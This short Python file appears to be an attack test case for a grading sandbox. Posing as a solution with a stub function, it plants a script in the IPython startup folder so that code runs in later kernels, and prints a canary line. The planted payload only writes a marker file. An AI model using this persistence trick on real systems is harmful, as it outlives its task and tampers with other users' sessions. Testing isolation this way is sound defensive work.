# what: Leaves a file in ~/.ipython's startup folder, which runs in every later kernel of this account.
# gains: others
# where: solution
# fires: stdout text `FIRED ipython_startup`
# stock: succeeds

import os

for profile in ("~/.ipython/profile_default/startup", os.environ.get("IPYTHONDIR", "~/.ipython") + "/profile_default/startup"):
    try:
        folder = os.path.expanduser(profile)
        os.makedirs(folder, exist_ok=True)
        with open(folder + "/00-attack.py", "w") as file:
            file.write("try:\n    open('@VICTIM@/ipython_startup', 'a').write('ran in a later kernel\\n')\nexcept OSError:\n    pass\n")
    except OSError as error:
        print("held:", error)
print("FIRED ipython_startup", flush=True)


def conv_single_step(a_slice_prev, W, b):
    return 0.0
